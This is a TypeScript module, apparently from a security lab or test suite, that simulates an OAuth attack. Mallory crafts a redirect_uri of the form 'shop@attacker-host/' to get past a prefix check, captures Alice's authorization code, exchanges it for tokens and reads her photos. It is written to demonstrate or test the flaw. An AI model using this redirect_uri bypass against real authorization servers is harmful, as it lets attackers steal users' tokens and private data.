import type { Answer, Place } from '../engine/lab.ts'
import { authorizationUrl, newVerifier, readPhotos, requestTokens } from '../engine/own-client.ts'

/**
 * Mallory sends Alice a link to CloudDrive that asks for the shop's own page, with an address that begins like the shop's. What
 * stands before an @ is a user's name: the answer goes to the host behind it.
 */
export const attack = (place: Place): Promise<Answer> => sendLink(place, `${place.shop}@${new URL(place.evil).host}/`)

/** An address that does not even begin like the shop's. */
export const wrongAttempt = (place: Place): Promise<Answer> => sendLink(place, `${place.evil}/`)

async function sendLink(place: Place, redirect_uri: string): Promise<Answer> {
  const { code_verifier, code_challenge } = newVerifier()
  const client = { client_id: 'printshop-spa', redirect_uri, scope: 'photos.read' }
  const alice = place.person('alice')
  const opened = await alice.open(authorizationUrl(place, client, code_challenge))
  if (opened.status >= 400) return { status: opened.status, text: await opened.text() }
  await alice.walk(authorizationUrl(place, client, code_challenge))

  // From here on Alice is done: what came to Mallory's site is enough.
  const came = place.inbox.at(-1)?.path ?? ''
  const code = new URL(came, place.evil).searchParams.get('code') ?? ''
  const body = { grant_type: 'authorization_code', client_id: client.client_id, redirect_uri, code, code_verifier }
  const { tokens } = await requestTokens(place, body)
  return readPhotos(place, tokens)
}
